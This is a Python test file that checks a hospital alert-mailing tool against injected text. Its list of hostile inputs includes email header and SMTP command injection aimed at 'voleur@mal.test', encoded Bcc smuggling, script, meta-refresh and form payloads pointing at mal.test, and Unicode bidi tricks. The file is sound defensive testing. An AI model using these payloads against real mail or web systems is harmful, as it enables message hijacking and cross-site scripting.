"""What sources write (labels, titles, bodies) changes no recipient, no part, no header."""

from __future__ import annotations

import re

import pytest
from sqlalchemy.orm import Session

from cockpit import state
from cockpit.notify import outbox
from cockpit.notify.letter import clean
from cockpit.notify.send import send_due
from cockpit.settings import Home
from cockpit.state.notify_models import NotifyMessage
from tests.support.mailroom import Mailbox, alert, publish, text_of

HOSTILE = [
    "Site\r\nBcc: voleur@mal.test",
    "Site\nTo: voleur@mal.test\n\nCorps",
    "Site\rCc: voleur@mal.test",
    "Site\r\n\r\n--===============1==\r\nContent-Type: text/html\r\n\r\n<b>x",
    "\r\n.\r\nMAIL FROM:<voleur@mal.test>\r\n",
    "\n.\nRCPT TO:<voleur@mal.test>\n",
    "=?utf-8?q?Bcc=3A_voleur=40mal.test?=",
    "=?utf-8?b?DQpCY2M6IHZvbGV1ckBtYWwudGVzdA==?=",
    "<script>fetch('http://mal.test')</script>",
    '<img src="http://mal.test/p.png">',
    "<style>*{display:none}</style>",
    "</ul></body></html><h1>autre",
    '"><a href="http://mal.test">clic</a>',
    "' onmouseover='alert(1)",
    "<!-- x",
    "<base href=http://mal.test>",
    '<meta http-equiv="refresh" content="0;url=http://mal.test">',
    "<form action=http://mal.test><input name=p>",
    "![x](http://mal.test/p.png)",
    "[clic](javascript:alert(1))",
    "https://mal.test/phishing",
    "zéro\u200blargeur\u200d\ufeff",
    "\u202egnp.exe\u202c",
    "\u2066cach\u00e9\u2069",
    "\u2028ligne\u2029paragraphe",
    "nul\x00\x1b[31m\x7f",
    "\x85\x0b\x0c",
    "&lt;script&gt;&#x3c;b&#x3e;",
    "A" * 100_000,
    "\U000e0041\U000e0042tags\ufff9",
    "%0d%0aBcc:voleur@mal.test",
    "{phone}{t}%s%(name)s",
]


def test_hostile_words_change_nothing_of_a_mail(home: Home, box: Mailbox) -> None:
    assert len(HOSTILE) >= 30
    for number, words in enumerate(["Site A", *HOSTILE], 1):
        one = alert(
            rule=f"r{number}", title_fr=words, body_fr=words, owner_fr=words, lever_fr=words
        )
        publish(home, number, *[one])
        assert send_due(home).sent == 1, words
        with Session(state.engine(home)) as session, session.begin():
            for row in session.query(NotifyMessage):  # the hour passes
                row.due_at = outbox.now().replace(year=2026, month=1)
    first, *others = box.letters
    assert set(box.to()) == {"lits@hopital.test"}
    assert len(others) == len(HOSTILE)
    kinds = [part.get_content_type() for part in first.walk()]
    assert kinds == ["multipart/alternative", "text/plain", "text/html"]
    for words, letter in zip(HOSTILE, others, strict=True):
        assert letter.keys() == first.keys(), words
        assert [part.get_content_type() for part in letter.walk()] == kinds, words
        for name in ("From", "To"):
            assert letter[name] == first[name], words
        assert re.fullmatch(r"Cockpit : 1 alerte(, \d+ terminée)?", letter["Subject"]), words
        _check_html(text_of(letter, "html"), words)
        text = text_of(letter)
        assert "://mal.test" not in text, words
        assert not re.search("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\x00\x1b]", text), (
            text_of
        )


def _check_html(html: str, words: str) -> None:
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z0-9!]+)", html))
    allowed = {"!doctype", "html", "head", "meta", "title", "body", "h1", "ul", "li", "strong"}
    assert tags <= {*allowed, "br", "a", "p"}, (words, tags)
    assert html.count("<meta ") == 1, words
    hosts = set(re.findall(r'(?:href|src)="([a-z]+://[^/"]+)', html))
    assert hosts <= {"https://cockpit.hopital.test"}, words


def test_the_name_of_a_person_is_only_a_name(home: Home, box: Mailbox) -> None:
    people = (home.root / "people.toml").read_text("utf-8")
    trap = "Lits, <voleur@mal.test>; x"
    (home.root / "people.toml").write_text(people.replace("Cellule des lits", trap), "utf-8")
    publish(home, 1, alert())
    assert send_due(home).sent == 1
    assert box.to() == ["lits@hopital.test"]
    addresses = box.letters[0]["To"].addresses
    assert [one.addr_spec for one in addresses] == ["lits@hopital.test"]


def test_a_thousand_alerts_are_one_short_mail(home: Home, box: Mailbox) -> None:
    storm = [alert(rule=f"r{at}") for at in range(1_000)]
    publish(home, 1, *storm)
    assert send_due(home).sent == 1
    assert len(box.envelopes[0].content) < 100_000


def test_a_rule_gone_wild_does_not_bury_the_others(
    home: Home, box: Mailbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(outbox, "MOST_AN_HOUR", 3)
    for number in range(5):
        publish(home, number + 1, alert(rule=f"r{number}"))
        send_due(home)
    assert len(box.envelopes) == 3


def test_clean_keeps_french() -> None:
    assert clean("Occupation · Pneumologie : 97,2 %\u202f→ « œuf »") == (
        "Occupation · Pneumologie : 97,2 % → « œuf »"
    )
